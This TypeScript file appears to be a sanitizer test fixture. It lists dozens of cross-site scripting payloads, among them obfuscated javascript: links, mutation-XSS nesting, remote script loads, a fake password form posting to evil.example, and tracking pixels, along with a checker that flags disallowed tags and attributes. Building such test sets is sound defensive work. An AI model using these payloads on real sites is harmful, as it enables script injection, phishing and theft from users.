/** Each calls `alert`, asks `evil.example` for something, or is read in two ways. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img srcset="https://evil.example/a.png 1x" data-file="x">',
  '<img data-file="1" onload=alert(1) src="https://evil.example/b.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">b</a>',
  '<a href="java\tscript:alert(1)">c</a>',
  '<a href=" &#106;avascript:alert(1)">d</a>',
  '<a href="&#x6A&#x61;vascript&colon;alert(1)">e</a>',
  '<a href="\u0001javascript:alert(1)">f</a>',
  '<a href="vbscript:msgbox(1)">g</a>',
  '<a href="data:text/html,<script>alert(1)</script>">h</a>',
  '<a href="//evil.example">i</a>',
  '<a href="/\\evil.example">j</a>',
  '<a href="https://good.example@evil.example">k</a>',
  '<p onclick="alert(1)" onmouseover=alert(1)>l</p>',
  '<p style="width:expression(alert(1));background:url(javascript:alert(1))">m</p>',
  '<p style="text-align:center;background-image:url(https://evil.example/c.png)">n</p>',
  '<style>@import "https://evil.example/d.css"; body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/e.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>o</button></form>',
  '<object data="https://evil.example/f.swf"></object><embed src="https://evil.example/g">',
  '<video src="https://evil.example/h.mp4" autoplay onerror=alert(1)></video>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<p/onclick=alert(1)//>p',
  '<details open ontoggle=alert(1)>q</details>',
  '<b\0 onclick=alert(1)>r\0</b>',
  '<table background="https://evil.example/i.png"><tr><td style="position:fixed" colspan=9999>s</td></tr></table>',
  '<img alt="<script>alert(1)</script>" data-file="2">',
  '<a href="https://ok.example" target=_top onfocus=alert(1) autofocus>t',
]

/** What no clean text has. Of addresses only those of links are left. */
export const isHarmful = (html: string): boolean =>
  /<(?!\/?(?:p|br|h[234]|strong|em|u|s|ul|ol|li|blockquote|hr|table|thead|tbody|tr|t[hd]|a|img)[\s>])/i.test(html) ||
  [...html.matchAll(/<[a-z]\w*((?:\s+[\w-]+="[^"]*")*)/g)].some(([, attributes]) =>
    [...attributes!.matchAll(/([\w-]+)="([^"]*)"/g)].some(
      ([, name, value]) =>
        !/^(href|rel|data-file|alt|colspan|rowspan|style)$/.test(name!) ||
        (name === 'href' && !/^(https?:\/\/(?!good)|\/(?![/\\]))/.test(value!)) ||
        (name === 'style' && !/^text-align: (left|center|right|justify)$/.test(value!)),
    ),
  )
